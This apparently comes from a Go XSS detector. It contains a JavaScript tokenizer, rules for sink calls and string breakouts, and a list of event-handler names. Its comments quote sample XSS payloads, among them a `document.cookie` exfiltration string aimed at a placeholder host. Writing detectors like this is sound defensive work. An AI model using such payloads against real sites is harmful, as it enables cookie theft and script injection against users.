package xss

// This file holds the checks for values injected into script: a small
// JavaScript tokenizer and two rules over its tokens.
//
//   - A sink: a call or a reference of a function that payloads use to
//     prove or run code (alert, prompt, confirm, eval, Function, setTimeout,
//     setInterval, execScript, document.write, x.constructor), standing as
//     an expression of its own: at the start, or after an operator or a
//     bracket, and followed by the end, an operator or a bracket, never by
//     more words ("Please alert(me) when..." is prose).
//   - A string breakout: the first quote of the value closes the string
//     the value was placed in, and an operator then a sink, or a call or
//     member assignment on a browser object, follows (`';alert(1)//`,
//     `';document.location='//x/'+document.cookie//`, `"-top.f(1)-"`).
//     Calls of other names are left out: they are how SQL injections look.
//     A sink standing right inside the first quote counts too: the quote
//     then opens a handler's value (onerror=[junk]"alert(1)").

type jsKind uint8

const (
	jsEOF    jsKind = iota
	jsIdent         // an identifier (escapes allowed) or keyword
	jsNumber        // a numeric literal, or digits glued to letters
	jsString        // '...' or "...", possibly unterminated
	jsTempl         // `...`, possibly unterminated
	jsPunct         // one punctuation character
)

type jsTok struct {
	kind       jsKind
	start, end int
}

// jsLexer tokenizes script. Comments and whitespace are skipped.
type jsLexer struct {
	s []byte
	i int
}

func (l *jsLexer) next() jsTok {
	s := l.s
	for l.i < len(s) {
		c := s[l.i]
		switch {
		case c <= ' ':
			l.i++
			continue
		case c == '/' && l.i+1 < len(s) && s[l.i+1] == '/':
			for l.i < len(s) && s[l.i] != '\n' {
				l.i++
			}
			continue
		case c == '/' && l.i+1 < len(s) && s[l.i+1] == '*':
			j := l.i + 2
			for j+1 < len(s) && !(s[j] == '*' && s[j+1] == '/') {
				j++
			}
			l.i = min(j+2, len(s))
			continue
		}
		start := l.i
		switch {
		case isIdentStart(c) || c >= 0x80 || (c == '\\' && l.i+1 < len(s) && s[l.i+1] == 'u'):
			for l.i < len(s) {
				c = s[l.i]
				if c == '\\' && l.i+1 < len(s) && s[l.i+1] == 'u' {
					l.i += 2
					continue
				}
				if !isIdentPart(c) && c < 0x80 {
					break
				}
				l.i++
			}
			return jsTok{jsIdent, start, l.i}
		case c >= '0' && c <= '9':
			for l.i < len(s) && (isIdentPart(s[l.i]) || s[l.i] == '.') {
				l.i++
			}
			return jsTok{jsNumber, start, l.i}
		case c == '\'' || c == '"' || c == '`':
			l.i++
			for l.i < len(s) && s[l.i] != c && (c == '`' || s[l.i] != '\n') {
				if s[l.i] == '\\' {
					l.i++
				}
				l.i++
			}
			l.i = min(l.i+1, len(s))
			if c == '`' {
				return jsTok{jsTempl, start, l.i}
			}
			return jsTok{jsString, start, l.i}
		}
		l.i++
		return jsTok{jsPunct, start, l.i}
	}
	return jsTok{jsEOF, len(s), len(s)}
}

// identName decodes an identifier's escapes (\uXXXX, \u{X...}) into buf
// and returns the name, or nil when it does not fit.
func identName(s []byte, t jsTok, buf *[16]byte) []byte {
	n := 0
	for i := t.start; i < t.end; {
		if n == len(buf) {
			return nil
		}
		c := s[i]
		if c == '\\' && i+1 < t.end && s[i+1] == 'u' {
			i += 2
			v, k := 0, 0
			if i < t.end && s[i] == '{' {
				i++
				for i < t.end && s[i] != '}' && k < 6 {
					if hexVal(s[i]) < 0 {
						return nil
					}
					v = v*16 + hexVal(s[i])
					i++
					k++
				}
				if i < t.end && s[i] == '}' {
					i++
				}
			} else {
				for k < 4 && i < t.end && hexVal(s[i]) >= 0 {
					v = v*16 + hexVal(s[i])
					i++
					k++
				}
			}
			c = foldRune(v)
		} else {
			i++
		}
		buf[n] = c
		n++
	}
	return buf[:n]
}

// sinkKind tells how a name is a sink.
type sinkKind uint8

const (
	notSink    sinkKind = iota
	sinkGlobal          // alert, eval, ...: a sink wherever it stands
	sinkMember          // write, writeln, constructor: a sink after "."
)

func sinkOf(name []byte) sinkKind {
	switch string(name) {
	case "alert", "prompt", "confirm", "eval", "execScript", "setTimeout",
		"setInterval", "setImmediate", "Function", "importScripts":
		return sinkGlobal
	case "write", "writeln", "constructor":
		return sinkMember
	}
	return notSink
}

// globalObjects are the names through which a computed member reaches a
// global function: top["al"+"ert"](1).
func isGlobalObject(name []byte) bool {
	switch string(name) {
	case "top", "window", "self", "parent", "frames", "globalThis", "this", "content", "opener":
		return true
	}
	return false
}

// maxLookahead bounds the tokens read after a candidate sink to find the
// end of its arguments, which keeps the check linear.
const maxLookahead = 64

// script runs the script checks on s.
func (c *checker) script(s []byte, m int) bool {
	if c.sinks(s) {
		return true
	}
	if m&hasSQ != 0 && c.breakout(s, '\'') {
		return true
	}
	if m&hasDQ != 0 && c.breakout(s, '"') {
		return true
	}
	return false
}

// opensExpr reports whether a token may stand right before the start of
// an expression: nothing, an operator or an opening bracket.
func opensExpr(s []byte, t jsTok) bool {
	switch t.kind {
	case jsEOF:
		return true
	case jsPunct:
		switch s[t.start] {
		case ')', ']', '}', '.', '\\', '#', '@':
			return false
		}
		return true
	}
	return false
}

// endsExpr reports whether a token may follow a complete expression in a
// payload: the end, an operator, a bracket, or a quote closing the string
// the payload was placed in.
func endsExpr(s []byte, t jsTok) bool {
	switch t.kind {
	case jsEOF, jsString, jsTempl:
		return true
	case jsPunct:
		return s[t.start] != '.' && s[t.start] != '#'
	}
	return false
}

// sinks looks for sink calls and references standing as expressions.
func (c *checker) sinks(s []byte) bool {
	l := jsLexer{s: s}
	defer func() { c.steps += l.i }()
	var prev2, prev jsTok
	prev2.kind, prev.kind = jsEOF, jsEOF
	var buf, buf2 [16]byte
	for {
		t := l.next()
		if t.kind == jsEOF {
			return false
		}
		if t.kind == jsIdent {
			if c.sinkAt(s, l, prev2, prev, t, &buf, &buf2) {
				return true
			}
		}
		prev2, prev = prev, t
	}
}

func isPunct(s []byte, t jsTok, ch byte) bool { return t.kind == jsPunct && s[t.start] == ch }

// sinkAt checks the identifier t, preceded by prev2 and prev, with the
// lexer l positioned after it. (The lookahead's steps are counted here:
// a deferred count in sinkAtFrom, with its many returns, would not be
// open-coded, and costs a tenth of a check.)
func (c *checker) sinkAt(s []byte, l jsLexer, prev2, prev, t jsTok, buf, buf2 *[16]byte) bool {
	la := l
	ok := c.sinkAtFrom(s, l, &la, prev2, prev, t, buf, buf2)
	c.steps += la.i - l.i
	return ok
}

// sinkAtFrom is sinkAt, looking ahead with la (a copy of l).
func (c *checker) sinkAtFrom(s []byte, l jsLexer, pla *jsLexer, prev2, prev, t jsTok, buf, buf2 *[16]byte) bool {
	name := identName(s, t, buf)
	if isGlobalObject(name) && opensExpr(s, prev) {
		// top[...](...) : a computed member called.
		la := pla
		if n := la.next(); isPunct(s, n, '[') && skipBalanced(la, s, '[', ']') && isPunct(s, la.next(), '(') {
			return c.hit(t.start, la.i)
		}
		c.steps += la.i - l.i
		*la = l
	}
	kind := sinkOf(name)
	if kind == notSink {
		return false
	}
	if kind == sinkMember {
		if !isPunct(s, prev, '.') {
			return false
		}
		if string(name) != "constructor" {
			obj := identName(s, prev2, buf2)
			if prev2.kind != jsIdent || string(obj) != "document" {
				return false
			}
		}
	} else if !opensExpr(s, prev) && !isPunct(s, prev, '.') {
		return false
	}
	la := pla
	n := la.next()
	switch {
	case isPunct(s, n, '('):
		if !skipBalanced(la, s, '(', ')') {
			return c.hit(t.start, la.i) // arguments run to the end: the page closes them
		}
		if endsExpr(s, la.next()) {
			return c.hit(t.start, la.i)
		}
	case n.kind == jsTempl: // alert`1`
		if endsExpr(s, la.next()) {
			return c.hit(t.start, n.end)
		}
	case isPunct(s, n, '.'): // alert.call(null, 1)
		m := la.next()
		var b3 [16]byte
		if m.kind == jsIdent {
			switch string(identName(s, m, &b3)) {
			case "call", "apply", "bind":
				if isPunct(s, la.next(), '(') {
					return c.hit(t.start, la.i)
				}
			}
		}
	case isPunct(s, n, ')') && isPunct(s, prev, '('): // (alert)(1)
		if isPunct(s, la.next(), '(') {
			return c.hit(prev.start, la.i)
		}
		// [1].find(alert): passed as a callback to a method.
		if prev2.kind == jsIdent && kind == sinkGlobal {
			return c.hit(prev2.start, n.end)
		}
	case kind == sinkGlobal && isPunct(s, prev, '=') && prev2.kind == jsIdent &&
		(isPunct(s, n, ',') || isPunct(s, n, ';')):
		// a=alert,a(1) (not q=alert at the end: a query string's
		// parameter, and a sink assigned but never called)
		return c.hit(prev2.start, t.end)
	}
	return false
}

// skipBalanced reads tokens after an opening bracket up to its closing
// bracket. It reports false when the input or the lookahead ends first.
func skipBalanced(l *jsLexer, s []byte, open, close byte) bool {
	depth := 1
	for k := 0; k < maxLookahead; k++ {
		t := l.next()
		switch {
		case t.kind == jsEOF:
			return false
		case isPunct(s, t, open):
			depth++
		case isPunct(s, t, close):
			depth--
			if depth == 0 {
				return true
			}
		}
	}
	return false
}

// breakout checks s as the content of a JavaScript string quoted with q:
// the first q closes it; what follows must be closing brackets, an
// operator, and a sink, or a call or member assignment on a browser
// object.
func (c *checker) breakout(s []byte, q byte) bool {
	i := 0
	for i < len(s) && s[i] != q {
		i++
	}
	if i == len(s) {
		return false
	}
	l := jsLexer{s: s, i: i + 1}
	defer func() { c.steps += l.i - i }()
	t := l.next()
	for isPunct(s, t, ')') || isPunct(s, t, ']') || isPunct(s, t, '}') {
		t = l.next()
	}
	ops := 0
	for t.kind == jsPunct && isOperator(s[t.start]) && ops < 4 {
		ops++
		t = l.next()
	}
	var b [16]byte
	if ops == 0 {
		// A quote that opens rather than closes: code only when a sink
		// stands right inside it (onerror=[x]"alert(1)").
		if t.kind != jsIdent || sinkOf(identName(s, t, &b)) != sinkGlobal {
			return false
		}
	}
	if c.sinks(s[t.start:]) {
		c.hitStart += t.start
		c.hitEnd += t.start
		return true
	}
	if ops == 0 || t.kind != jsIdent || !isBrowserRoot(identName(s, t, &b)) {
		return false
	}
	start := t.start
	member := false
	// A dotted or indexed name, then "(" or "=" after a member.
	for k := 0; k < 16; k++ {
		n := l.next()
		switch {
		case isPunct(s, n, '.'):
			if m := l.next(); m.kind != jsIdent {
				return false
			}
			member = true
		case isPunct(s, n, '['):
			if !skipBalanced(&l, s, '[', ']') {
				return false
			}
		case isPunct(s, n, '('):
			if skipBalanced(&l, s, '(', ')') && endsExpr(s, l.next()) {
				return c.hit(start, l.i)
			}
			return false
		case isPunct(s, n, '=') && member:
			return c.hit(start, l.i)
		default:
			return false
		}
	}
	return false
}

// isBrowserRoot reports whether name is a browser global through which
// script reaches the page, the user or the network.
func isBrowserRoot(name []byte) bool {
	switch string(name) {
	case "document", "window", "location", "top", "self", "parent", "frames", "opener",
		"globalThis", "navigator", "history", "localStorage", "sessionStorage":
		return true
	}
	return false
}

// isOperator reports whether c may sit between a closed string and the
// next expression.
func isOperator(c byte) bool {
	switch c {
	case ';', ',', '+', '-', '*', '/', '%', '&', '|', '^', '?', ':', '<', '>', '=', '!', '~':
		return true
	}
	return false
}

// handlers are the event-handler attribute names that browsers run
// (HTML, SVG, and legacy Internet Explorer ones), sorted.
var handlers = [...]string{
	"onabort", "onactivate", "onafterprint", "onafterscriptexecute", "onafterupdate",
	"onanimationcancel", "onanimationend", "onanimationiteration", "onanimationstart",
	"onauxclick", "onbeforeactivate", "onbeforecopy", "onbeforecut", "onbeforedeactivate",
	"onbeforeeditfocus", "onbeforeinput", "onbeforepaste", "onbeforeprint",
	"onbeforescriptexecute", "onbeforetoggle", "onbeforeunload", "onbeforeupdate", "onbegin",
	"onblur", "onbounce", "oncancel", "oncanplay", "oncanplaythrough", "oncellchange",
	"onchange", "onclick", "onclose", "oncontextmenu", "oncontrolselect", "oncopy",
	"oncuechange", "oncut", "ondataavailable", "ondatasetchanged", "ondatasetcomplete",
	"ondblclick", "ondeactivate", "ondrag", "ondragend", "ondragenter", "ondragexit",
	"ondragleave", "ondragover", "ondragstart", "ondrop", "ondurationchange", "onemptied",
	"onend", "onended", "onerror", "onerrorupdate", "onfilterchange", "onfinish", "onfocus",
	"onfocusin", "onfocusout", "onformdata", "onfullscreenchange", "ongotpointercapture",
	"onhashchange", "onhelp", "oninput", "oninvalid", "onkeydown", "onkeypress", "onkeyup",
	"onlayoutcomplete", "onload", "onloadeddata", "onloadedmetadata", "onloadend",
	"onloadstart", "onlosecapture", "onlostpointercapture", "onmessage", "onmousedown",
	"onmouseenter", "onmouseleave", "onmousemove", "onmouseout", "onmouseover", "onmouseup",
	"onmousewheel", "onmove", "onmoveend", "onmovestart", "onoffline", "ononline",
	"onpagehide", "onpageshow", "onpaste", "onpause", "onplay", "onplaying",
	"onpointercancel", "onpointerdown", "onpointerenter", "onpointerleave",
	"onpointermove", "onpointerout", "onpointerover", "onpointerrawupdate", "onpointerup",
	"onpopstate", "onprogress", "onpropertychange", "onratechange", "onreadystatechange",
	"onrepeat", "onreset", "onresize", "onresizeend", "onresizestart", "onrowenter",
	"onrowexit", "onrowsdelete", "onrowsinserted", "onscroll", "onscrollend", "onsearch",
	"onsecuritypolicyviolation", "onseeked", "onseeking", "onselect", "onselectionchange",
	"onselectstart", "onshow", "onstalled", "onstart", "onstop", "onstorage", "onsubmit",
	"onsuspend", "ontimeout", "ontimeupdate", "ontoggle", "ontouchcancel", "ontouchend",
	"ontouchmove", "ontouchstart", "ontransitioncancel", "ontransitionend",
	"ontransitionrun", "ontransitionstart", "onunload", "onvolumechange", "onwaiting",
	"onwebkitanimationend", "onwebkitanimationiteration", "onwebkitanimationstart",
	"onwebkittransitionend", "onwheel", "onzoom",
}

// isKnownHandler reports whether name (any case) is in handlers.
func isKnownHandler(name []byte) bool {
	lo, hi := 0, len(handlers)
	for lo < hi {
		m := int(uint(lo+hi) >> 1)
		if cmpFold(name, handlers[m]) > 0 {
			lo = m + 1
		} else {
			hi = m
		}
	}
	return lo < len(handlers) && equalFold(name, handlers[lo])
}

// cmpFold compares the ASCII-lowercased a with the lowercase b.
func cmpFold(a []byte, b string) int {
	for i := 0; i < len(a) && i < len(b); i++ {
		ca := lower(a[i])
		if ca != b[i] {
			if ca < b[i] {
				return -1
			}
			return 1
		}
	}
	switch {
	case len(a) < len(b):
		return -1
	case len(a) > len(b):
		return 1
	}
	return 0
}
